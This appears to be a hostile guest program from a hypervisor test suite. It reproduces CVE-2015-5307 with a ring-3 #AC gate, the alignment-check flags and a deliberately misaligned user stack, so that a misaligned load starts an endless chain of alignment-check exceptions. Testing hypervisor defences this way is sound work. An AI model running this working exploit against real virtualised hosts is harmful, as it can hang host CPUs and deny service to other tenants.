/* SPDX-License-Identifier: MIT */
/*
 * An alignment check whose delivery makes the next one (CVE-2015-5307): in ring 3, with EFLAGS.AC and CR0.AM, the gate
 * of #AC leads to ring 3 and the stack is not aligned. A CPU that were not made to exit at #AC would never come out of
 * its microcode, with the host's interrupts pending. 32-bit code: in long mode the delivery aligns the stack. SDM
 * 3A 6.15, "Interrupt 17"; 6.12.1 "Exception- or Interrupt-Handler Procedures".
 */
#include "tests/guests/lib/guest.h"

const char guest_name[] = "hostile-ac";

#define USER_CODE 0x1bu
#define USER_DATA 0x23u
#define CR0_AM 0x40000u
#define FLAG_AC 0x40000u
#define GATE_USER 0xee00u /* present, DPL 3, 32-bit interrupt gate */
#define AC 17u

struct __attribute__((packed)) pointer {
    uint16_t limit;
    uint32_t base;
};

static uint64_t gdt[5] = {0, 0x00cf9b000000ffffULL, 0x00cf93000000ffffULL, 0x00cffb000000ffffULL,
                          0x00cff3000000ffffULL};
static uint8_t user_stack[4096] __attribute__((aligned(16)));

static void ac_handler_in_ring_3(void)
{
    struct pointer table = {sizeof(gdt) - 1, (uint32_t)(uintptr_t)gdt};
    struct pointer idt;
    volatile uint16_t *gate;

    __asm__ volatile("lgdt %1; sidt %0" : "=m"(idt) : "m"(table));
    gate = (volatile uint16_t *)(uintptr_t)(idt.base + AC * 8);
    gate[1] = USER_CODE;
    gate[2] = GATE_USER;
}

void guest_main(void)
{
    uint32_t stack = (uint32_t)(uintptr_t)(user_stack + sizeof(user_stack) - 61);

    print("attack endless-ac\n");
    ac_handler_in_ring_3();
    write_cr0(read_cr0() | CR0_AM);
    __asm__ volatile("pushl %0; pushl %1; pushfl; orl %2, (%%esp); pushl %3; pushl $1f; iretl\n"
                     "1: movl %4, %%ds; movl (%1), %%eax; 2: jmp 2b"
                     :
                     : "i"(USER_DATA), "r"(stack), "i"(FLAG_AC), "i"(USER_CODE), "r"(USER_DATA)
                     : "eax", "memory");
}
